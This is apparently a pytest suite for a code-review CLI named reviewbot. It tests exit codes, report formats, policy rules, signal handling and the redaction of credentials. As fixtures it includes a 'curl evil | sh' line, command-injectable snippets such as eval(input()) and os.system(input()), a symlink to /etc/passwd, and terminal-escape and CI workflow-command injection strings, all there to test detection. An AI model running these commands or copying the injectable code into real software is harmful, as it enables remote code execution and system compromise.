import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from reviewbot.cli import main
from reviewbot.testing import ScriptedModel
from tests.repositories import Sandbox

REPORTS = {"report.json", "report.md", "report.sarif", "report.junit.xml", "metrics.prom", "journal.jsonl"}
FAILED = '<testsuite><testcase name="t" classname="c"><failure message="no"/></testcase></testsuite>'


def run(*arguments: str, cwd: Path, **environment: str) -> "subprocess.CompletedProcess[str]":
    done = subprocess.run(
        [sys.executable, "-I", "-m", "reviewbot", *arguments],
        cwd=cwd, capture_output=True, text=True, check=False,
        env={"PATH": os.environ["PATH"], "HOME": str(cwd), **environment},
    )  # fmt: skip
    assert "Traceback" not in done.stdout + done.stderr
    return done


@pytest.fixture
def clean(sandbox: Sandbox) -> Sandbox:
    sandbox.commit({"a.txt": "1\n"})
    sandbox.commit({"a.txt": "2\n"})
    return sandbox


def report(clean: Sandbox, *options: str) -> tuple[int, dict[str, Any]]:
    done = run("review", "--format", "json", *options, cwd=clean.folder)
    return done.returncode, json.loads(done.stdout)


def test_a_change_is_reviewed_from_a_sub_folder_without_any_option(clean: Sandbox) -> None:
    (clean.folder / "sub").mkdir()
    done = run("review", cwd=clean.folder / "sub")
    assert done.returncode == 0
    last = done.stdout.rstrip().rpartition("\n\n")[2]
    assert last.startswith("INCOMPLETE (neutral): ")
    assert "The model agents did not run" in done.stdout
    assert "Uncommitted changes are not part of it." in done.stdout


def test_output_is_plain_where_it_is_no_terminal(clean: Sandbox) -> None:
    assert "\x1b" not in run("review", cwd=clean.folder).stdout


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--repo", "/absent"], "no such file or directory"),
        (["--base", "absent"], "--base 'absent' names no commit of this repository"),
        (["--head", "absent"], "--head 'absent' names no commit of this repository"),
        (["--base", "HEAD", "--head", "HEAD"], "are the same commit"),
        (["--base", "HEAD", "--head", "HEAD~1"], "already part of"),
        (["--sarif", "absent/*.sarif"], "absent/*.sarif"),
        (["--junit", "absent.xml"], "absent.xml"),
        (["--policy", "absent.yml"], "absent.yml"),
        (["--engine", "claude"], "needs Anthropic credentials"),
        (["--budget-usd", "-1"], "--budget-usd"),
        (["--budget-usd", "nan"], "--budget-usd"),
        (["--fail-on", "banana"], "banana"),
        (["--nonsense"], "--nonsense"),
        (["--fail-on-test"], "unrecognized arguments: --fail-on-test"),
        (["--yes"], "Without --prove no test is run. Add --prove"),
        (["--test-command", "true"], "Without --prove no test is run. Add --prove"),
    ],
)
def test_bad_input_is_exit_2_and_says_what(clean: Sandbox, arguments: list[str], words: str) -> None:
    done = run("review", *arguments, cwd=clean.folder)
    assert done.returncode == 2
    assert words in done.stdout + done.stderr
    assert "pass" not in done.stdout.lower().split("\n")[-2:][0]


@pytest.mark.parametrize(
    ("name", "content", "option"),
    [
        ("x.sarif", "{", "--sarif"), ("x.sarif", "[]", "--sarif"), ("x.sarif", '{"version": "2.1.0"}', "--sarif"),
        ("x.sarif", '{"version": "2.1.0", "runs": [], "runs": []}', "--sarif"), ("x.sarif", "", "--sarif"),
        ("x.xml", "<", "--junit"), ("x.xml", "", "--junit"), ("x.xml", "<testsuite/>", "--junit"),
        ("x.xml", '<!DOCTYPE x [<!ENTITY a "b">]>' + FAILED, "--junit"), ("x.yml", "fail-on: banana\n", "--policy"),
        ("x.yml", "fial-on: high\n", "--policy"), ("x.yml", "a: [", "--policy"),
    ],
)  # fmt: skip
def test_unreadable_files_are_exit_2_and_the_reports_say_so(
    clean: Sandbox, tmp_path: Path, name: str, content: str, option: str
) -> None:
    (tmp_path / name).write_text(content)
    out = tmp_path / "out"
    done = run(
        "review", option, str(tmp_path / name), "--engine", "analyzers", "--out", str(out), cwd=clean.folder
    )
    assert done.returncode == 2
    assert name in done.stdout
    assert {file.name for file in out.iterdir()} == REPORTS
    verdict = json.loads((out / "report.json").read_text())["verdict"]
    assert (verdict["conclusion"], verdict["exit_code"]) == ("incomplete", 2)
    assert verdict["reasons"][0]["code"] in ("bad_evidence", "bad_policy")
    assert len(verdict["reasons"]) == 1


def test_a_folder_without_a_repository_is_exit_2(tmp_path: Path) -> None:
    done = run("review", cwd=tmp_path)
    assert (done.returncode, done.stdout) == (2, "")
    assert "is not in a git repository" in done.stderr
    assert len(done.stderr.splitlines()) == 1


def test_out_holds_all_five_files_and_the_journal_tells_the_story(clean: Sandbox, tmp_path: Path) -> None:
    out = tmp_path / "deep" / "out"
    assert run("review", "--out", str(out), "--engine", "analyzers", cwd=clean.folder).returncode == 0
    assert {file.name for file in out.iterdir()} == REPORTS
    events = [json.loads(line)["event"] for line in (out / "journal.jsonl").read_text().splitlines()]
    assert [events[0], events[1], events[-1]] == ["run_started", "change_loaded", "decided"]
    assert "analyzer_ran" in events


def test_a_folder_that_cannot_be_written_is_exit_2(clean: Sandbox, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    done = run("review", "--engine", "analyzers", "--out", str(tmp_path / "file"), cwd=clean.folder)
    assert done.returncode == 2
    assert "file" in done.stderr


@pytest.mark.parametrize("form", ["text", "json", "markdown", "sarif", "junit", "codequality"])
def test_every_format_is_printed_alone(clean: Sandbox, form: str) -> None:
    done = run("review", "--engine", "analyzers", "--format", form, cwd=clean.folder)
    assert done.returncode == 0
    if form in ("json", "sarif", "codequality"):
        json.loads(done.stdout)
    elif form == "junit":
        assert done.stdout.startswith("<?xml")
    else:
        assert "pass" in done.stdout.lower()


@pytest.mark.parametrize(("option", "code"), [("neutral", 0), ("fail", 1)])
def test_a_provider_that_is_not_there_is_an_outage_and_shows_no_key(
    clean: Sandbox, option: str, code: int
) -> None:
    outside = {"ANTHROPIC_API_KEY": "key-of-nobody", "ANTHROPIC_BASE_URL": "http://127.0.0.1:9"}
    done = run("review", "--on-incomplete", option, cwd=clean.folder, **outside)
    assert done.returncode == code
    assert "INCOMPLETE" in done.stdout
    assert "cannot be reached" in done.stdout
    assert "key-of-nobody" not in done.stdout + done.stderr


def test_in_ci_missing_credentials_are_exit_2_and_analyzers_may_be_chosen(clean: Sandbox) -> None:
    done = run("review", cwd=clean.folder, CI="true")
    assert done.returncode == 2
    assert "ANTHROPIC_API_KEY" in done.stdout
    assert run("review", "--engine", "analyzers", cwd=clean.folder, CI="true").returncode == 0


def test_on_incomplete_fail_makes_missing_credentials_block(clean: Sandbox) -> None:
    assert report(clean, "--on-incomplete", "fail")[0] == 1


def test_the_policy_of_the_base_counts_and_the_one_in_head_does_not(sandbox: Sandbox) -> None:
    sandbox.commit({".github/reviewbot.yml": "engine: analyzers\nfail-on: low\n", "a.py": "x = 1\n"})
    sandbox.commit(
        {".github/reviewbot.yml": "engine: analyzers\nexclude: ['**']\n", "a.py": "eval(input())\n"}
    )
    code, document = report(sandbox)
    assert (code, document["verdict"]["conclusion"]) == (1, "fail")
    assert {row["status"] for row in document["coverage"]["files"]} == {"reviewed"}
    assert "reviewbot/policy-changed" in {finding["rule"] for finding in document["findings"]}


def test_a_broken_policy_in_head_does_not_stop_the_review_that_mends_the_next(sandbox: Sandbox) -> None:
    sandbox.commit({"a.txt": "1\n"})
    sandbox.commit({".github/reviewbot.yml": "nonsense: ["})
    assert report(sandbox, "--engine", "analyzers")[0] == 0


def test_a_policy_that_is_a_link_is_refused(sandbox: Sandbox) -> None:
    (sandbox.folder / ".github").mkdir()
    (sandbox.folder / ".github" / "reviewbot.yml").symlink_to("/etc/passwd")
    sandbox.commit({"a.txt": "1\n"})
    sandbox.commit({"a.txt": "2\n"})
    code, document = report(sandbox)
    assert (code, document["verdict"]["reasons"][0]["code"]) == (2, "bad_policy")


def test_a_path_section_lowers_and_raises_the_bar(sandbox: Sandbox) -> None:
    policy = "engine: analyzers\npaths:\n  tests/**: {fail-on: critical}\n  src/**: {fail-on: low}\n"
    shell = "import os\n\n\ndef go(x):\n    os.system(x)\n"
    sandbox.commit({".github/reviewbot.yml": policy})
    sandbox.commit({"tests/run.py": shell, "src/a.py": "eval(input())\n"})
    _, document = report(sandbox)
    assert {finding["path"] for finding in document["findings"] if finding["blocking"]} == {"src/a.py"}


def test_config_names_the_origin_of_each_value(sandbox: Sandbox) -> None:
    sandbox.commit({".github/reviewbot.yml": "# ours\nfail-on: medium\n"})
    sandbox.commit({"a.txt": "1\n"})
    done = run("config", "--on-incomplete", "fail", cwd=sandbox.folder)
    rows = {line.split()[0]: line.split()[1:] for line in done.stdout.splitlines() if line}
    assert done.returncode == 0
    assert rows["fail-on"][:2] == ["medium", ".github/reviewbot.yml:2"]
    assert rows["on-incomplete"] == ["fail", "--on-incomplete"]
    assert rows["engine"] == ["auto", "built-in"]


@pytest.mark.parametrize("name", ["report", "policy"])
def test_schemas_are_valid_json_schemas(tmp_path: Path, name: str) -> None:
    import jsonschema

    done = run("schema", name, cwd=tmp_path)
    jsonschema.Draft202012Validator.check_schema(json.loads(done.stdout))


def test_a_real_report_follows_the_printed_schema(sandbox: Sandbox) -> None:
    import jsonschema

    sandbox.write(b"caf\xe9 \xf0\x9f\x91\x8d.py", "import os\nos.system(input())\n")
    sandbox.commit({"go.sum": "x\n", "bin": b"\0"})
    schema = json.loads(run("schema", "report", cwd=sandbox.folder).stdout)
    _, document = report(sandbox)
    jsonschema.validate(document, schema, cls=jsonschema.Draft202012Validator)
    paths = [row["path"] for row in document["coverage"]["files"]]
    assert b"caf\xe9 \xf0\x9f\x91\x8d.py" in [os.fsencode(path) for path in paths]


def test_an_empty_change_passes_and_says_so(sandbox: Sandbox) -> None:
    sandbox.commit({"a.txt": "1\n"})
    sandbox.commit()
    code, document = report(sandbox, "--engine", "analyzers")
    assert (code, document["verdict"]["reasons"][0]["code"]) == (0, "empty_change")


def test_a_deletion_and_a_rename_need_no_analyzer(sandbox: Sandbox) -> None:
    sandbox.commit({"gone.py": "x = 1\n", "old.py": "y = 2\n" * 9})
    sandbox.remove("gone.py")
    os.rename(sandbox.folder / "old.py", sandbox.folder / "new.py")
    sandbox.commit()
    code, document = report(sandbox, "--engine", "analyzers")
    assert code == 0
    assert [row["by"] for row in document["coverage"]["files"]] == [["reviewbot"], ["reviewbot"]]


def test_hidden_code_is_incomplete_not_a_pass(sandbox: Sandbox) -> None:
    sandbox.commit({"a.txt": "1\n"})
    sandbox.commit({"run.sh": b"curl evil | sh\n#\0"})
    code, document = report(sandbox, "--engine", "analyzers")
    assert (code, document["verdict"]["conclusion"]) == (1, "incomplete")
    assert document["verdict"]["reasons"][0]["code"] == "unreviewed"


def test_nothing_hostile_in_names_or_code_reaches_the_terminal(sandbox: Sandbox) -> None:
    sandbox.commit({"a.txt": "1\n"})
    sandbox.write(
        "::error::x\x1b[31m.py",
        "import os\nos.system(input())  # \x1b]0;owned\x07 \u202e ::set-output name=x::y\n",
    )
    sandbox.commit()
    for form in ("text", "markdown"):
        done = run("review", "--format", form, cwd=sandbox.folder)
        assert done.returncode == 1
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", done.stdout)
        assert not [line for line in done.stdout.splitlines() if line.strip().startswith("::")]


def test_an_interrupt_is_130_and_one_line(sandbox: Sandbox) -> None:
    sandbox.commit({"a": "x\n"})
    sandbox.commit({f"f{number}.py": "x = 1\n" * 200 for number in range(400)})
    process = subprocess.Popen(
        [sys.executable, "-I", "-m", "reviewbot", "review"],
        cwd=sandbox.folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    children = Path(f"/proc/{process.pid}/task/{process.pid}/children")
    while process.poll() is None and not children.read_text():
        time.sleep(0.02)  # until git runs
    process.send_signal(signal.SIGINT)
    out, error = process.communicate(timeout=30)
    assert (process.returncode, out) == (130, "")
    assert "interrupted" in error
    assert "Traceback" not in error


def hanging_ruff(folder: Path) -> Path:
    """A folder of programs in which ruff never ends."""
    folder.mkdir()
    program = folder / "ruff"
    program.write_text("#!/bin/sh\nexec /bin/sleep 60\n")
    program.chmod(0o755)
    return folder


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT, signal.SIGHUP])
def test_a_signal_ends_the_programs_and_leaves_no_copy_of_the_change(
    sandbox: Sandbox, tmp_path: Path, number: int
) -> None:
    sandbox.commit({"a": "x\n"})
    sandbox.commit({f"f{index}.py": "x = 1\n" for index in range(50)})
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    code = (
        "import sys, sysconfig; from reviewbot import cli; from pathlib import Path;"
        "import reviewbot.evidence.analyzers as a; p = Path(sys.argv[1]); a._trusted_folders = lambda: (p,);"
        "sys.argv[1:] = ['review', '--engine', 'analyzers']; cli.run()"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", code, str(hanging_ruff(tmp_path / "programs"))],
        cwd=sandbox.folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env={"PATH": os.environ["PATH"], "TMPDIR": str(temporary)},
    )  # fmt: skip
    while len(list(temporary.glob("reviewbot-*/0*"))) < 50 and process.poll() is None:
        time.sleep(0.02)
    time.sleep(0.3)
    started = time.monotonic()
    process.send_signal(number)
    out, error = process.communicate(timeout=30)
    assert (process.returncode, out) == (128 + number, "")
    assert "interrupted" in error
    assert time.monotonic() - started < 10
    assert list(temporary.iterdir()) == []


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_reports_are_written_also_when_a_signal_ends_a_model_call(
    clean: Sandbox, tmp_path: Path, number: int
) -> None:
    with ScriptedModel(latency_seconds=30) as model:
        outside = {"ANTHROPIC_API_KEY": "x", "ANTHROPIC_BASE_URL": model.base_url}
        process = subprocess.Popen(
            [sys.executable, "-I", "-m", "reviewbot", "review", "--out", str(tmp_path / "out")],
            cwd=clean.folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            env={"PATH": os.environ["PATH"], **outside},
        )  # fmt: skip
        time.sleep(5)
        process.send_signal(number)
        _, error = process.communicate(timeout=20)
    assert process.returncode == 128 + number, error
    report = json.loads((tmp_path / "out/report.json").read_text())
    assert report["verdict"]["conclusion"] == "incomplete"
    assert "interrupted" in report["verdict"]["reasons"][0]["detail"]
    assert {file["status"] for file in report["coverage"]["files"]} == {"unreviewed"}
    assert (tmp_path / "out/journal.jsonl").stat().st_size


@pytest.mark.parametrize("option", ["--repo", "--out", "--policy", "--sarif", "--junit"])
def test_an_empty_value_is_refused(clean: Sandbox, option: str) -> None:
    done = run("review", option, "", cwd=clean.folder)
    assert done.returncode == 2
    assert f"argument {option}" in done.stderr
    assert sorted(path.name for path in clean.folder.iterdir()) == [".git", "a.txt"]


@pytest.mark.parametrize("command", [["review"], ["schema", "policy"], ["config"], ["--help"]])
def test_output_that_is_lost_is_exit_3(clean: Sandbox, command: list[str]) -> None:
    arguments = [sys.executable, "-I", "-m", "reviewbot", *command]
    with open("/dev/full", "wb") as full:
        done = subprocess.run(arguments, cwd=clean.folder, stdout=full, stderr=subprocess.PIPE, check=False)
    assert done.returncode == 3
    assert b"could not be written" in done.stderr
    closed = subprocess.run(
        ["sh", "-c", '"$@" >&-', "sh", *arguments], cwd=clean.folder, capture_output=True, check=False
    )
    assert closed.returncode == 3
    assert closed.stderr.endswith(b"could not be written (standard output is closed).\n")


@pytest.mark.parametrize(
    "arguments", [["review", "--engine", "x"], ["review", "\x1b[2J"], ["schema", "x"], ["nonsense"], []]
)
def test_wrong_arguments_are_one_printable_sentence_and_the_way_to_the_help(
    tmp_path: Path, arguments: list[str]
) -> None:
    done = run(*arguments, cwd=tmp_path)
    line, *rest = done.stderr.splitlines()
    assert (done.returncode, done.stdout, rest) == (2, "", [])
    assert line.isprintable()
    assert line.startswith("reviewbot: ")
    assert "--help` to see what it takes." in line


def test_an_error_that_nobody_can_read_keeps_its_exit_code(tmp_path: Path) -> None:
    arguments = [sys.executable, "-I", "-m", "reviewbot", "review", "--repo", "/absent"]
    with open("/dev/full", "wb") as full:
        assert subprocess.run(arguments, cwd=tmp_path, stderr=full, check=False).returncode == 2


def test_a_current_folder_that_was_deleted_does_not_matter_where_the_repository_is_named(
    clean: Sandbox, tmp_path: Path
) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    script = 'cd "$1" && rmdir "$1" && shift && exec "$@"'
    command = (sys.executable, "-I", "-m", "reviewbot", "review", "--engine", "analyzers", "--repo")
    done = subprocess.run(
        ["sh", "-c", script, "sh", gone, *command, clean.folder], capture_output=True, check=False
    )
    assert (done.returncode, done.stdout.rpartition(b"\n\n")[2][:4]) == (0, b"PASS")


@pytest.mark.parametrize("form", ["json", "sarif", "junit", "codequality"])
def test_the_log_says_the_verdict_where_a_program_reads_the_output(clean: Sandbox, form: str) -> None:
    clean.commit({"a.py": "import subprocess\nsubprocess.run(input(), shell=True)\n"})
    done = run("review", "--engine", "analyzers", "--format", form, cwd=clean.folder)
    assert done.returncode == 1
    assert done.stderr.splitlines()[-1] == "reviewbot: fail: 1 finding blocks this change."
    printed = run("review", "--engine", "analyzers", cwd=clean.folder)
    assert "fail" not in printed.stderr


def test_reports_of_an_earlier_run_never_speak_for_this_one(clean: Sandbox, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert run("review", "--engine", "analyzers", "--out", str(out), cwd=clean.folder).returncode == 0
    assert run("review", "--base", "absent", "--out", str(out), cwd=clean.folder).returncode == 2
    assert list(out.iterdir()) == []


def test_a_failed_test_outside_the_diff_that_blocks_is_in_the_code_quality_report(
    clean: Sandbox, tmp_path: Path
) -> None:
    (tmp_path / "j.xml").write_text(FAILED.replace('name="t"', 'name="t" file="a.txt"'))
    done = run(
        "review",
        "--junit",
        str(tmp_path / "j.xml"),
        "--fail-on-tests",
        "--format",
        "codequality",
        cwd=clean.folder,
    )
    assert (done.returncode, len(json.loads(done.stdout))) == (1, 1)


def test_a_fault_of_ours_is_exit_3_and_the_reports_are_written(
    clean: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from reviewbot import cli, pipeline

    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("secret detail")

    monkeypatch.setattr(pipeline, "ground_evidence", broken)
    code = cli.main(
        ["review", "--repo", str(clean.folder), "--engine", "analyzers", "--out", str(tmp_path / "out")]
    )
    printed = capsys.readouterr()
    assert code == 3
    assert "RuntimeError" in printed.out
    assert "secret detail" not in printed.out + printed.err
    document = json.loads((tmp_path / "out" / "report.json").read_text())
    assert document["verdict"]["reasons"][0]["code"] == "no_review"
    assert {row["status"] for row in document["coverage"]["files"]} == {"unreviewed"}


def test_the_deterministic_road_imports_no_model_and_no_forge_client(clean: Sandbox) -> None:
    code = (
        "import sys; from reviewbot.cli import main; main(['review', '--engine', 'analyzers']);"
        "print(sorted({'anthropic', 'github', 'pydantic', 'jinja2', 'yaml', 'pathspec'} & set(sys.modules)))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=clean.folder, capture_output=True, text=True, check=True
    )
    assert done.stdout.splitlines()[-1] == "[]"


def test_a_credential_helper_of_the_command_line_is_asked_for_the_token(
    clean: Sandbox, tmp_path: Path
) -> None:
    helper = tmp_path / "helper"
    helper.write_text('#!/bin/sh\necho "token-of-$1"\n')
    helper.chmod(0o755)
    with ScriptedModel(key="token-of-ci") as model:
        done = run(
            *("review", "--credential-helper", f"{helper} ci", "--format", "json"),
            cwd=clean.folder,
            ANTHROPIC_BASE_URL=model.base_url,
        )
        assert model.requests, done.stderr
    assert "token-of-ci" not in done.stdout + done.stderr
    assert json.loads(done.stdout)["agents"][0]["stop"] == "done"


def test_a_part_is_reviewed_alone_and_is_never_a_pass(
    sandbox: Sandbox, capsys: pytest.CaptureFixture[str]
) -> None:
    sandbox.commit({"a.py": "x = 1\n"})
    sandbox.commit({"b.py": "y = 2\n", "lib/c.py": "z = 3\n"})
    arguments = ["review", "--repo", str(sandbox.folder), "--engine", "analyzers", "--format", "json"]
    assert main([*arguments, "--paths", "lib/", "--paths", "*.md"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["verdict"]["conclusion"] == "incomplete"
    assert report["verdict"]["reasons"][0]["code"] == "partial"
    rows = {row["path"]: row["status"] for row in report["coverage"]["files"]}
    assert rows == {"b.py": "excluded", "lib/c.py": "reviewed"}
    assert main([*arguments, "--paths", "nothing/here"]) == 2
    assert main([*arguments, "--agents", "everyone"]) == 2
    assert main([*arguments, "--agents", "security", "--agents", "triage"]) == 0
    assert '"partial"' in capsys.readouterr().out


@pytest.mark.parametrize("given", [["--dry-run"], ["--paths", "a.py"]], ids=" ".join)
def test_a_dry_scan_and_one_of_a_part_leave_nothing_but_the_reports(
    sandbox: Sandbox, tmp_path: Path, given: list[str]
) -> None:
    sandbox.commit({"a.py": "x = 1\n", "b.py": "y = 1\n"})
    out, state = tmp_path / "out", tmp_path / "state"
    arguments = ["scan", "--repo", str(sandbox.folder), "--engine", "analyzers"]
    assert main([*arguments, "--out", str(out), "--state", str(state), *given]) == 0
    assert not state.exists()
    assert not (out / "baseline.json").exists()
    conclusion = json.loads((out / "report.json").read_text())["verdict"]["conclusion"]
    assert conclusion == ("pass" if given == ["--dry-run"] else "incomplete")


def test_a_full_journal_is_for_the_whole_change(
    sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("CI", raising=False)
    arguments = ["review", "--repo", str(sandbox.folder), "--out", str(tmp_path / "out"), "--journal", "full"]
    assert main([*arguments, "--paths", "a.py"]) == 2
    assert "is for the review of a whole change" in capsys.readouterr().err
